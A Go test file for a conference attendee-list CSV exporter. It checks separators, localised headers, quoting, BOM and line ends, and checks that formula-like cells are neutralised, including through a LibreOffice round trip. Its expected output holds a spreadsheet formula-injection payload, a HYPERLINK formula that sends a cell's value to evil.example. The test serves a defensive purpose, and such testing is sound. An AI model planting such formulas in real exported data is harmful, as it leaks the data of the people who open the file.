package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func csvWrite(t *testing.T, in ListInput, opts CSVOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteListCSV(context.Background(), &buf, in, opts); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readCSV parses a file of ours back, checking the BOM and the CRLF line
// ends on the way.
func csvRead(t *testing.T, b []byte, sep rune) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("no byte order mark: % x", b[:min(8, len(b))])
	}
	if bytes.Contains(bytes.ReplaceAll(body, []byte("\r\n"), nil), []byte("\n")) {
		t.Errorf("a line ends with LF alone")
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = sep
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func TestCSVList(t *testing.T) {
	const n = 12
	a1 := wbAttendee(1, wbCongress.Days)
	created, arrival := a1.CreatedAt.Local(), a1.Arrivals[0].Local()
	// Dates are ISO in every language (see WriteListCSV).
	fr, en := "2006-01-02 15:04", "2006-01-02 15:04"
	for _, tc := range []struct {
		name    string
		opts    CSVOptions
		sep     rune
		header  []string
		row2    []string // the second person, as written
		needsQ  string   // a field quoted in the raw file
		dayOnly string
	}{
		{"CommaFrench", CSVOptions{Lang: "fr"}, ',',
			[]string{"Téléphone", "Nom", "Prénom", "Tarif", "Payé", "Inscrit·e le", "Premier jour", "Arrivée", "Nombre de jours", "Notes", "Organisation", "Régime", "Rien"},
			[]string{"'+33 6 12 34 56 78", a1.LastName, a1.FirstName, "120.5", "Non", created.Format(fr), "2021-11-25", arrival.Format(fr), "2", "", "Mutuelle des territoires", "végétarien", ""},
			`"Association « Vivre ensemble », Roubaix"`, "2021-11-25"},
		{"SemicolonFrench", CSVOptions{Lang: "fr", Separator: ';'}, ';',
			nil,
			[]string{"'+33 6 12 34 56 78", a1.LastName, a1.FirstName, "120,5", "Non", created.Format(fr), "2021-11-25", arrival.Format(fr), "2", "", "Mutuelle des territoires", "végétarien", ""},
			`;"Arrive par le train de 9 h 12,` + "\r\n" + `repart avant la plénière";`, "2021-11-25"},
		{"TabEnglish", CSVOptions{Lang: "en", Separator: '\t'}, '\t',
			[]string{"Phone", "Last name", "First name", "Fee", "Paid", "Registered on", "First day", "Arrival", "Number of days", "Notes", "Organisation", "Diet", "Nothing"},
			[]string{"'+33 6 12 34 56 78", a1.LastName, a1.FirstName, "120.5", "No", created.Format(en), "2021-11-25", arrival.Format(en), "2", "", "Mutuelle des territoires", "végétarien", ""},
			"\t\"Arrive par le train", "2021-11-25"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b := csvWrite(t, wbList(n), tc.opts)
			recs := csvRead(t, b, tc.sep)
			if len(recs) != n+1 {
				t.Fatalf("%d records, want %d", len(recs), n+1)
			}
			if tc.header != nil && !slices.Equal(recs[0], tc.header) {
				t.Errorf("header %q", recs[0])
			}
			if !slices.Equal(recs[2], tc.row2) {
				t.Errorf("row 2 %q,\nwant  %q", recs[2], tc.row2)
			}
			if !bytes.Contains(b, []byte(tc.needsQ)) {
				t.Errorf("no %q in\n%s", tc.needsQ, b)
			}
			// Every text that looks like a formula has its apostrophe.
			cells := map[[2]int]string{{1, 1}: wbInjections[0], {2, 0}: wbInjections[1], {3, 10}: wbInjections[2],
				{4, 2}: wbInjections[3], {6, 11}: wbInjections[5]}
			for rc, v := range cells {
				if got := recs[rc[0]][rc[1]]; got != "'"+v {
					t.Errorf("row %d col %d = %q, want %q", rc[0], rc[1], got, "'"+v)
				}
			}
			// The rest is left alone.
			if got := recs[1][10]; got != "Scop Les Tisserands" {
				t.Errorf("organisation %q", got)
			}
		})
	}
	t.Run("ErrCSVSeparator", func(t *testing.T) {
		err := WriteListCSV(context.Background(), &bytes.Buffer{}, wbList(1), CSVOptions{Separator: '|'})
		if !errors.Is(err, ErrCSVSeparator) {
			t.Fatalf("err %v", err)
		}
	})
	t.Run("Empty", func(t *testing.T) {
		in := wbList(0)
		in.Attendees = nil
		recs := csvRead(t, csvWrite(t, in, CSVOptions{}), ',')
		if len(recs) != 1 {
			t.Fatalf("%q", recs)
		}
	})
}

// TestCSVLibreOffice opens a list with LibreOffice: the fields come back
// whole, and the text that looks like a formula is not evaluated.
func TestCSVLibreOffice(t *testing.T) {
	lo := libreOffice(t)
	if testing.Short() {
		t.Skip("LibreOffice takes seconds to start")
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "list.csv")
	if err := os.WriteFile(path, csvWrite(t, wbList(8), CSVOptions{Lang: "fr", Separator: ';'}), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	// Read as semicolon-separated UTF-8 (59,34,76), write back as shown,
	// comma-separated.
	cmd := exec.Command(lo, "-env:UserInstallation=file://"+filepath.Join(dir, "lo"), "--headless",
		"--infilter=CSV:59,34,76,1", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
		"--outdir", out, path)
	cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	b, err := os.ReadFile(filepath.Join(out, "list.csv"))
	if err != nil {
		t.Fatal(err)
	}
	got := string(b)
	for _, want := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, "'+33 6 12 34 56 78", "'-x", "'@SUM(1)",
		"Association « Vivre ensemble », Roubaix", "Arrive par le train de 9 h 12,\nrepart avant la plénière"} {
		if !strings.Contains(got, want) {
			t.Errorf("LibreOffice's reading lacks %q:\n%s", want, got)
		}
	}
}
